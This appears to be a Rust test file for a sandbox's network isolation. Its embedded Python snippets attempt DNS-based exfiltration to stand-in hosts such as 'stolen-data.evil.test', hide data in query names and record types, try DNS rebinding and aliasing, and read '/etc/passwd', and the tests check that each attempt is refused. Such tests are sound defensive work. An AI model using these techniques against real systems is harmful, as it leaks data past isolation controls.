//! Names as a way out: questions to others than the run's own resolver, and data in names.

use std::net::IpAddr;
use std::time::Duration;

use super::attack::{Attack, NAME, REFUSED};
use crate::common::{skipped, until};
use crate::network::begun::Begun;
use crate::network::net::Net;
use crate::network::servers::{Answer, Streams, Witness, address};

/// A question for `stolen-data.evil.test`, in the wire format.
const QUESTION: &str =
    "q = bytes.fromhex('1234 0100 0001 0000 0000 0000') + b'\\x0bstolen-data\\x04evil\\x04test\\0\\0\\1\\0\\1'";

#[test]
fn a_server_of_ones_own_by_datagram() {
    Attack::new().fails(
        &[
            &format!("{QUESTION}; of(HOST, UDP).sendto(q, W)"),
            &format!("{QUESTION}; s = of(HOST, UDP); s.connect(W); s.send(q)"),
            &format!("{QUESTION}; s = of(HOST, UDP); s.connect(W); os.write(s.fileno(), q)"),
        ],
        REFUSED,
    );
}

// promise: network.9
#[test]
fn a_server_of_ones_own_by_stream() {
    Attack::new().fails(
        &[
            &format!("{QUESTION}; s = socket.create_connection(W); s.send(struct.pack('>H', len(q)) + q)"),
            // Over TLS: what is said first, a ClientHello, is enough.
            "import ssl; c = ssl.create_default_context(); s = socket.create_connection(W); s.settimeout(0.2); \
             b = ssl.MemoryBIO(), ssl.MemoryBIO(); o = c.wrap_bio(*b, server_hostname='dns.evil.test')\n\
             try: o.do_handshake()\n\
             except ssl.SSLWantReadError: s.send(b[1].read())",
        ],
        "EACCES",
    );
}

/// The port is nothing special: a resolver's address and port together are.
#[test]
fn port_53_of_others() {
    let Some(witness) = Witness::at(address(), 53) else {
        return skipped("this user can't serve port 53");
    };
    Attack::on(witness).fails(
        &[
            &format!("{QUESTION}; of(HOST, UDP).sendto(q, W)"),
            &format!("{QUESTION}; s = of(HOST, UDP); s.connect(W); s.send(q)"),
            &format!("{QUESTION}; s = socket.create_connection(W); s.send(struct.pack('>H', len(q)) + q)"),
            "begun(of(HOST), W)",
        ],
        REFUSED,
    );
}

// promise: network.9
#[test]
fn the_machines_own_resolver_is_not_reached_past_the_runs() {
    let net = granting(&["api.shop.test:8080"]);
    let address = net.names.address();
    let code = format!(
        "import socket\n\
         q = bytes.fromhex('123401000001000000000000') + b'\\x06stolen\\x04evil\\x04test\\0\\0\\1\\0\\1'\n\
         for kind in socket.SOCK_STREAM, socket.SOCK_DGRAM:\n  \
           try:\n    \
             s = socket.socket(socket.AF_INET, kind); s.connect(('{}', {})); s.send((b'\\0' + bytes([len(q)]) if kind == 1 else b'') + q)\n    \
             print('sent')\n  \
           except OSError: print('refused')",
        address.ip(),
        address.port()
    );
    net.python(&code).prints("refused\nrefused\n");
    net.names.were_never_asked("stolen");
}

/// Names that nothing grants and that carry data.
// promise: network.8
#[test]
fn data_in_names_is_never_asked_outside() {
    let net = granting(&["api.shop.test:8080", "*.inside.test:8080"]);
    net.names.lead("*.evil.test", address());
    net.names.lead("*.api.shop.test", address());
    let code = "import socket, subprocess\n\
         for name in ('data1.evil.test', 'data2.api.shop.test', 'api.shop.test.data3.evil.test', 'xapi.shop.test',\n           \
           'data4.evil.test.', 'DATA5.Evil.Test', 'inside.test.data6.evil.test', 'data7inside.test', 'data8',\n           \
           'a.b.c.d.data9.evil.test', '_data10._tcp.evil.test', 'data11\\u3002evil\\u3002test', 'data12%evil.test',\n           \
           'data13.evil.test\\0.api.shop.test', 'data14 .api.shop.test', 'data15.shop.test'):\n  \
           for ask in (lambda: socket.getaddrinfo(name, 8080), lambda: socket.gethostbyname(name),\n             \
             lambda: socket.getaddrinfo(name, 8080, socket.AF_INET6, flags=socket.AI_CANONNAME)):\n    \
             try: print(name, ask())\n    \
             except (OSError, ValueError, TypeError): pass\n\
         subprocess.run(['getent', 'ahosts', 'data16.evil.test'])\n\
         print('asked')";
    let ran = net.python(code);
    ran.prints("asked\n");
    ran.was_refused("resolve", "data1.evil.test", &["--host", "data1.evil.test"]);
    let asked = net.names.asked();
    let allowed = |name: &String| name == "api.shop.test" || name.ends_with(".inside.test");
    assert!(asked.iter().all(allowed), "{asked:?}");
}

/// The resolver of the run, asked directly for what a library wouldn't ask.
#[test]
fn questions_of_other_kinds_carry_nothing_outside() {
    let net = granting(&["api.shop.test:8080"]);
    net.names.lead("*.evil.test", address());
    let code = "import socket, struct\n\
         def ask(name, kind, group=1, flags=0x0100, count=1, tail=b''):\n  \
           labels = b''.join(bytes([len(l)]) + l for l in name.split(b'.'))\n  \
           question = labels + b'\\0' + struct.pack('>HH', kind, group)\n  \
           message = struct.pack('>6H', 7, flags, count, 0, 0, 0) + question * count + tail\n  \
           s = socket.create_connection(('198.18.0.1', 53), 10)\n  \
           s.sendall(struct.pack('>H', len(message)) + message); s.settimeout(10)\n  \
           try: return s.recv(4096)[5:6]\n  \
           except OSError: return b''\n\
         for kind in (1, 2, 5, 6, 10, 12, 15, 16, 28, 33, 35, 41, 43, 64, 65, 99, 250, 251, 252, 255, 256, 65535):\n  \
           ask(b'leak%d.evil.test' % kind, kind)\n  \
           ask(b'api.shop.test', kind)\n\
         for group in (3, 4, 254, 255):\n  \
           ask(b'leak.evil.test', 1, group); ask(b'api.shop.test', 1, group)\n\
         for flags in (0x0000, 0x0800, 0x1100, 0x2800, 0x8100, 0x0110):\n  \
           ask(b'leak.evil.test', 1, 1, flags); ask(b'api.shop.test', 1, 1, flags)\n\
         ask(b'leak.evil.test', 1, count=2)\n\
         ask(b'api.shop.test', 1, tail=b'\\4leak\\4evil\\4test\\0\\0\\1\\0\\1')\n\
         ask(b'1.0.0.127.in-addr.arpa', 12); ask(b'leak.8.8.8.8.in-addr.arpa', 12)\n\
         print('asked')";
    net.python(code).prints("asked\n");
    let asked = net.names.asked();
    assert!(asked.iter().all(|name| name == "api.shop.test"), "{asked:?}");
}

/// Reverse questions name an address, and so can data.
#[test]
fn addresses_are_not_asked_for_their_names_outside() {
    let net = granting(&["api.shop.test:8080"]);
    let code = "import socket\n\
         for address in ('1.2.3.4', '198.18.0.1', '198.18.0.9', '127.0.0.1', '2001:db8::1'):\n  \
           try: socket.getnameinfo((address, 80), 0)\n  \
           except OSError: pass\n\
         print('asked')";
    net.python(code).prints("asked\n");
    net.names.were_never_asked("arpa");
}

/// A search domain of the machine isn't added to names that nothing grants.
#[test]
fn a_name_that_does_not_exist_is_told_from_a_server_that_fails() {
    let net = granting(&["missing.shop.test:1", "broken.shop.test:1", "api.shop.test:1"]);
    net.names.answer("broken.shop.test", Answer::Failure);
    net.names.lead("api.shop.test", address());
    let code = "import socket\n\
         for name in 'missing.shop.test', 'broken.shop.test', 'nobody.evil.test', 'api.shop.test':\n  \
           try: socket.getaddrinfo(name, 1, type=socket.SOCK_STREAM) and print('found')\n  \
           except socket.gaierror as error:\n    \
             print({socket.EAI_NONAME: 'no such name', socket.EAI_AGAIN: 'failure'}.get(error.errno, error))";
    // What a granted name that doesn't exist is, is the hosts file's affair: exact names are always in it.
    let net_wide = granting(&["*.shop.test:1"]);
    net_wide.names.answer("broken.shop.test", Answer::Failure);
    net_wide.names.lead("api.shop.test", address());
    net_wide
        .python(code)
        .prints("no such name\nfailure\nno such name\nfound\n");
    let ran = net.python(code);
    assert!(ran.stdout().ends_with("no such name\nfound\n"), "{}", ran.told());
}

/// An answer that turns from a granted address to another one, at every question.
// promise: network.10
#[test]
fn rebinding_leads_nowhere() {
    let attack = Attack::new();
    let granted = attack.granted.address;
    let witness = Witness::at(address(), granted.port()).unwrap();
    let turning = vec![granted.ip(), witness.address.ip(), witness.address.ip()];
    attack.net.names.answer(NAME, Answer::Turning(turning));
    let code = format!(
        "import socket, time\n\
         reached = refused = 0\n\
         end = time.monotonic() + 3\n\
         while time.monotonic() < end:\n  \
           for connect in (lambda: socket.create_connection(('{NAME}', {0}), 5),\n    \
             lambda: socket.create_connection((socket.gethostbyname('{NAME}'), {0}), 5)):\n    \
             try:\n      \
               s = connect(); s.sendall(b'ping')\n      \
               if s.recv(4) == b'ping': reached += 1\n      \
               else: refused += 1\n    \
             except OSError: refused += 1\n  \
           time.sleep(0.05)\n\
         print('tried', reached + refused > 10)",
        granted.port()
    );
    attack.net.python(&code).prints("tried True\n");
    witness.saw_none();
}

/// Several addresses, of which one is granted: the others aren't reached.
#[test]
fn an_answer_with_a_granted_and_another_address() {
    let attack = Attack::new();
    let granted = attack.granted.address;
    let witness = Witness::at(address(), granted.port()).unwrap();
    for order in [
        [witness.address.ip(), granted.ip()],
        [granted.ip(), witness.address.ip()],
    ] {
        attack.net.names.answer(NAME, Answer::Addresses(order.to_vec()));
        let code = format!(
            "import socket\n\
             for i in range(10):\n  \
               try: socket.create_connection(('{NAME}', {}), 5).send(b'x')\n  \
               except OSError: pass\n\
             print('tried')",
            granted.port()
        );
        attack.net.python(&code).prints("tried\n");
    }
    witness.saw_none();
}

/// An alias leads where it leads, and is judged there: by the address, and by the name that was asked for.
#[test]
fn an_alias_to_a_name_that_nothing_grants() {
    let attack = Attack::new();
    let port = attack.granted.address.port();
    let witness = Witness::at(address(), port).unwrap();
    attack.net.names.answer(NAME, Answer::Alias("inner.evil.test".into()));
    attack.net.names.lead("inner.evil.test", witness.address.ip());
    let code = format!(
        "import socket\n\
         try: socket.create_connection(('{NAME}', {port}), 10).recv(1) and print('reached')\n\
         except OSError: print('refused')"
    );
    attack.net.python(&code).prints("refused\n");
    witness.saw_none();
}

#[test]
fn a_server_that_never_answers_holds_up_no_other() {
    let echo = Streams::echo();
    let mut net = Net::new();
    net.grant("api.shop.test", echo.address).host("*.slow.test:80");
    net.names.answer("*.slow.test", Answer::Silence);
    let code = format!(
        "import os, socket, sys, threading\n\
         given_up = []\n\
         def ask(i):\n  \
           try: socket.getaddrinfo('name%d.slow.test' % i, 80)\n  \
           finally: given_up.append(i)\n\
         for i in range(20): threading.Thread(target=ask, args=(i,), daemon=True).start()\n\
         sys.stdin.readline()\n\
         s = socket.create_connection(('api.shop.test', {})); s.sendall(b'x'); s.recv(1)\n\
         open('/etc/passwd').read()\n\
         print('still asked:', 20 - len(given_up), flush=True)\n\
         os._exit(0)",
        echo.address.port()
    );
    let mut held = Begun::new(net.run("minimal").python(&code));
    let all_ask = || {
        let asked = net.names.asked();
        (0..20).all(|i| asked.contains(&format!("name{i}.slow.test")))
    };
    assert!(until(Duration::from_secs(20), all_ask), "{:?}", net.names.asked());
    held.say("");
    // Each is asked for ten seconds: one that had to wait for another would be given up.
    assert_eq!(held.line(), "still asked: 20");
}

#[test]
fn a_run_that_waits_for_a_name_is_ended_on_its_limit() {
    let mut net = Net::new();
    net.host("*.slow.test:80").flag(["--time-limit", "4s"]);
    net.names.answer("*.slow.test", Answer::Silence);
    let ran = net.python("import socket; socket.getaddrinfo('name.slow.test', 80)");
    assert_eq!(ran.finished.status.code(), Some(124), "{}", ran.told());
    assert!(until(Duration::from_secs(1), || net
        .names
        .asked()
        .contains(&"name.slow.test".into())));
}

fn granting(patterns: &[&str]) -> Net {
    let mut net = Net::new();
    for pattern in patterns {
        net.host(pattern);
    }
    let unheard: IpAddr = address();
    net.names.lead("api.shop.test", unheard);
    net.names.lead("*.inside.test", unheard);
    net
}
